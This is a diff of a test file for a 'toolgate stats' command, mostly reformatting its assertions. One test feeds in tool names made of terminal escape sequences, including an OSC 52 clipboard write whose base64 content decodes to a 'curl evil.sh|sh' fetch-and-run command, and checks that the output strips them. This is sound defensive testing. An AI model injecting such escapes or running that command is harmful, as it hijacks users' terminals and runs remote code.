@@ -33,7 +33,9 @@ describe("toolgate stats", () => {
     expect(s.tools.add_order_note).toMatchObject({ calls: 2, replays: 1 });
 
     const table = await runCommand(register, ["stats", "--audit", audit]);
-    expect(table.stdout.split("\n")[0]).toMatch(/^tool\s+calls\s+ok\s+invalid\s+denied\s+replays\s+in-doubt\s+latency ms p50\/p95/);
+    expect(table.stdout.split("\n")[0]).toMatch(
+      /^tool\s+calls\s+ok\s+invalid\s+denied\s+replays\s+in-doubt\s+latency ms p50\/p95/,
+    );
     expect(table.stdout).toContain("5 line(s), 1 broken: line 5");
   });
 
@@ -42,7 +44,9 @@ describe("toolgate stats", () => {
     writeFileSync(wrong, "garbage\n{bad\n");
     const r = await runCommand(register, ["stats", "--audit", wrong]);
     expect(r.stdout).toBe("");
-    expect(r.error?.message).toMatch(/^the audit trail holds no usable record \(2 broken line\(s\); line 1: not JSON .*check --audit$/);
+    expect(r.error?.message).toMatch(
+      /^the audit trail holds no usable record \(2 broken line\(s\); line 1: not JSON .*check --audit$/,
+    );
     const empty = join(dir, "empty.jsonl");
     writeFileSync(empty, "");
     const e = await runCommand(register, ["stats", "--audit", empty, "--json"]);
@@ -54,8 +58,14 @@ describe("toolgate stats", () => {
     // A clear-screen, an OSC 52 clipboard write and a bidi override, as a model could name a tool.
     const names = ["\x1b[2J\x1b[H", "x\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", "\u202enoitcelfer", "\x9b31m"];
     const audit = join(dir, "hostile.jsonl");
-    writeFileSync(audit, names.map((tool) => JSON.stringify(auditRecord({ tool, outcome: "unknown_tool" }))).join("\n") + "\n");
-    for (const argv of [["stats", "--audit", audit], ["stats", "--audit", audit, "--json"]]) {
+    writeFileSync(
+      audit,
+      names.map((tool) => JSON.stringify(auditRecord({ tool, outcome: "unknown_tool" }))).join("\n") + "\n",
+    );
+    for (const argv of [
+      ["stats", "--audit", audit],
+      ["stats", "--audit", audit, "--json"],
+    ]) {
       const out = (await runCommand(register, argv)).stdout;
       expect(out).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
     }
